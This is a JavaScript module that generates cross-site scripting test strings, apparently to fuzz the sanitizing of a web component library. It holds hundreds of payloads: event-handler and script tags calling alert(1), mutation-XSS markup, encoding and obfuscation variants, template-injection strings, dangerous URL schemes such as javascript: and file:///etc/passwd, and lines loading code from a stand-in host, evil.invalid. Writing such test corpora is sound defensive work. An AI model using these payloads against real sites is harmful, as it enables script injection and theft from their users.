// Attacks that are made, not listed: families of what has broken into pages before. Runs in Node and in the browser.

const call = 'alert(1)';

/** Elements that run something by themselves, or that a reader is easily led to. */
const tags = ['img src=x', 'svg', 'video src=x', 'details open', 'input autofocus', 'body', 'a href=# tabindex=1', 'xss style=animation-name:x'];

/** A program by every event of HTML. */
const handlers = (events) => events.flatMap((event, i) => [0, 1, 2].map((n) => `<${tags[(i + n * 3) % tags.length]} ${event}=${call}>`));

/** Whole programs. */
const programs = [
  `<script>${call}</script>`,
  `<script src=data:text/javascript,${call}></script>`,
  `<script type=module>${call}</script>`,
  `<svg><script href=data:,${call} /></svg>`,
  `<img src=x onerror=${call}>`,
  `<img/src/onerror=${call}//`,
  `<svg/onload=${call}>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href=javascript:${call}><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${call} />#x">`,
  `<math href=javascript:${call}>x</math>`,
  `<iframe src=javascript:${call}></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data=javascript:${call}></object>`,
  `<embed src=javascript:${call}>`,
  `<form action=javascript:${call}><button>x</button></form>`,
  `<button formaction=javascript:${call} form=x>x</button>`,
  `<a href=javascript:${call}>x</a>`,
  `<base href=javascript:/a/+${call}//>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<link rel=stylesheet href=data:text/css,*{}>`,
  `<link rel=modulepreload href=//evil.invalid/x.js>`,
  `<style>@import "//evil.invalid/x.css";</style>`,
  `<style>*{background:url(//evil.invalid/x)}</style>`,
  `<template shadowrootmode=open><script>${call}</script></template>`,
  `<input type=image src=x onerror=${call}>`,
  `<isindex action=javascript:${call}>`,
  `<table background=javascript:${call}>`,
  `<div style="background:url(javascript:${call})">`,
  `<lede-card href=javascript:${call} headline=x></lede-card>`,
  `<lede-article src=//evil.invalid/story.json></lede-article>`,
];

/** What is written before a program to end the place where it stands. */
const exits = [
  ...['"', "'", '`', '>', '">', "'>", '"/>', '-->', '--!>', ']]>', '*/', '//\n', '\\"', "\\'", '"]', '"}', '}]}', '\u2028', '\0', '\r\n\r\n'],
  ...['script', 'style', 'title', 'textarea', 'template', 'noscript', 'xmp', 'iframe', 'svg', 'math', 'article', 'lede-card'].map((tag) => `</${tag}>`),
];

/** Parsers read what is inside these in other ways: the ground of mutation attacks. */
const rawText = ['xmp', 'noembed', 'noframes', 'noscript', 'style', 'title', 'textarea', 'iframe', 'plaintext', 'template', 'select', 'script', 'listing'];
const mutations = [
  ...rawText.flatMap((tag) => [
    `<${tag}><p title="</${tag}><img src=x onerror=${call}>">`,
    `<svg><${tag}><a id="</${tag}><img src=x onerror=${call}>">`,
    `<math><mtext><table><mglyph><${tag}><!--</${tag}><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
    `<form><math><mtext></form><form><mglyph><${tag}></math><img src=x onerror=${call}>`,
  ]),
  `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
];

const each = (text, change) => [...text].map(change).join('');
const hex = (char, width) => char.codePointAt(0).toString(16).padStart(width, '0');

/** A text in other writings. */
const writings = [
  (text) => text.toUpperCase(),
  (text) => each(text, (char, i) => (i % 2 ? char.toUpperCase() : char)),
  (text) => each(text, (char) => `&#${char.codePointAt(0)};`),
  (text) => each(text, (char) => `&#x${hex(char, 6)}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => each(text, (char) => `%${hex(char, 2)}`),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => each(text, (char) => `\\u${hex(char, 4)}`),
  (text) => each(text, (char) => `\\x${hex(char, 2)}`),
  (text) => each(text, (char) => (char > ' ' && char < '\x7f' ? String.fromCharCode(char.charCodeAt(0) + 0xfee0) : char)),
  (text) => text.replaceAll('<', '<\0'),
  (text) => text.replaceAll(' ', '\f'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '\u02c2').replaceAll('>', '\u02c3'),
  (text) => `\ufeff${text}`,
  (text) => `${text.slice(0, 5)}\ud800${text.slice(5)}`,
];

/** The holes of template languages, and Lit's own marks. */
const templates = [
  ...[`\${${call}}`, `{{${call}}}`, `{{constructor.constructor('${call}')()}}`, `<%= ${call} %>`, `#{${call}}`, `[[${call}]]`, `{${call}}`, `*{${call}}`],
  ...[
    '<?lit$?>',
    '<!--lit-part-->',
    '<!--lit-part abc-->x<!--/lit-part-->',
    '<!--lit-node 0-->',
    '{{lit-1}}',
    '?lit$0$',
    'lit$0$',
    '$lit$',
    '{headline}',
    '{name}{date}',
  ],
  ...['$&', '$1', '$`', "$'", '$$', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '[object Object]', 'undefined', 'NaN'],
];

/**
 * The whole made part of the attacks, each once.
 *
 * @param events - The names of HTML's event handlers, as the browser lists them: `onclick` and so on.
 */
export function families(events) {
  const attacks = [...programs, ...mutations];
  return [
    ...new Set([
      ...handlers(events),
      ...attacks,
      ...exits.flatMap((exit) => programs.slice(0, 9).map((program) => exit + program)),
      ...exits.flatMap((exit) => [`${exit} onfocus=${call} autofocus x=`, `${exit};${call};`]),
      ...writings.flatMap((write) => [...programs.slice(0, 12), `javascript:${call}`].map(write)),
      ...templates,
    ]),
  ];
}

const schemes = [
  ...[
    'javascript:alert(1)',
    'javascript:/*a*/alert(1)//',
    'javascript://a.example/%0aalert(1)',
    'javascript:alert`1`',
    'vbscript:msgbox(1)',
    'livescript:a',
    'mocha:a',
  ],
  ...['data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:,a', 'data:text/javascript,alert(1)'],
  ...[
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'data:application/xhtml+xml,<a/>',
    'data:text/xml,<a/>',
    'data:image/pngx,a',
  ],
  ...['data:application/json,{"headline":"a"}', 'data:text/css,*{}', 'data:;base64,YQ==', 'data:image/svg+xml;base64,PHN2Zy8+', 'data:image/bmp;base64,Qk0='],
  ...['blob:https://a.example/0b7c', 'file:///etc/passwd', 'file://a.example/a', 'filesystem:https://a.example/temporary/a', 'view-source:https://a.example/'],
  ...[
    'about:blank',
    'about:srcdoc',
    'chrome://version',
    'resource://gre/',
    'intent://a#Intent;scheme=http;end',
    'ftp://a.example/a',
    'ws://a.example/',
    'wss://a.example/',
  ],
  ...[
    'jar:https://a.example/a!/b',
    'mhtml:https://a.example/a',
    'feed:javascript:alert(1)',
    'ms-settings:a',
    'sms:+1',
    'geo:0,0',
    'urn:a',
    'x-javascript:alert(1)',
  ],
];

const fullWidth = (text) => each(text, (char) => (/[a-z:]/.test(char) ? String.fromCharCode(char.charCodeAt(0) + 0xfee0) : char));
const inside = (sign) => (text) => text.slice(0, 3) + sign + text.slice(3);
const before = (sign) => (text) => sign + text;
const colon = (sign) => (text) => text.replace(':', sign);

/** What an address may hide behind. */
const disguises = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => each(text.slice(0, text.indexOf(':')), (char, i) => (i % 2 ? char.toUpperCase() : char)) + text.slice(text.indexOf(':')),
  ...[' ', '\t', '\n', '\r', '\f', '\v', '\0', '\x01', '\x1f', '\x7f', '\u00a0', '\u200b', '\u2028', '\u202e', '\ufeff', ' \t\n\0'].map(before),
  ...['\t', '\n', '\r', '\r\n', '\0', '\x01', '\f', '\u00ad', '\u200b', '\u200d', '\\', '%09', '%00', '&Tab;', '&#10;', '&NewLine;', '\\u0061', ' '].map(
    inside,
  ),
  ...['\t:', '\n:', ' :', '\0:', '&colon;', '&#58;', '&#x3a;', '%3a', '\uff1a', '\ufe55', ':\t', ':\0'].map(colon),
  ...['url:', 'javascript:', 'http:', 'https:', 'x:', '//', '/\\', '\\\\', './', '?', '%0a', '"', "'", '<', 'URL(', ',', ', ', ' ,\t,', 'a 1x, ', 'a 1x,'].map(
    before,
  ),
  fullWidth,
  (text) => each(text, (char) => `&#${char.charCodeAt(0)};`),
  (text) => each(text, (char) => `&#x${hex(char, 2)};`),
  (text) => each(text, (char) => `%${hex(char, 2)}`),
  (text) => each(text, (char) => `${char}\t`),
  (text) => `${text} 1x`,
  (text) => `${text}, a 2x`,
];

/** Addresses that name another place than they seem to. */
const hosts = [
  ...[
    'https://a.example@b.example/',
    'https://a.example%40b.example/',
    'https://a.example:b@c.example/',
    '//a@b.example/',
    'http:\\\\a@b.example',
    'https:a:b@c.example',
  ],
  ...[
    'http:a:b@c.example/',
    'https:/a:b@c.example/',
    'https:\\a@b.example',
    'https:///a@b.example',
    '\\\\a@b.example',
    '/\\a@b.example',
    '/\t/a@b.example',
    'ht\ntps:a@b.example',
  ],
  ...[
    '//b.example',
    '\\\\b.example',
    '/\\b.example',
    '///b.example',
    '////b.example',
    'https:b.example',
    'http:b.example',
    'https:/b.example',
    'https:\\b.example',
  ],
  ...[
    'https://a.example\\@b.example/',
    'https://a.example#@b.example/',
    'https://a.example?@b.example/',
    'https://b.example\u3002example/',
    'https://\uff41.example/',
  ],
  ...[
    'https://xn--80ak6aa92e.example/',
    'https://a\u202egpj.example/',
    'https://a\u00ad.example/',
    'https://0x7f.1/',
    'https://2130706433/',
    'https://[::1]/',
    'https://a.example:443:80/',
  ],
  ...[
    'https://lede.invalid/',
    'https://lede.invalid@b.example',
    '//lede.invalid/a',
    'https://a:b@lede.invalid/',
    'http://lede.invalid:80/',
    'https://%6cede.invalid/',
    'https:lede.invalid',
  ],
  ...[
    'mailto:a@b.example',
    'mailto:a@b.example?bcc=c@d.example',
    'mailto:a@b.example%0d%0abcc:c@d.example',
    'tel:+4711',
    '#javascript:alert(1)',
    '?javascript:alert(1)',
  ],
];

/** Addresses in every disguise. */
export const addresses = () => [...new Set([...schemes.flatMap((scheme) => disguises.map((disguise) => disguise(scheme))), ...hosts])];
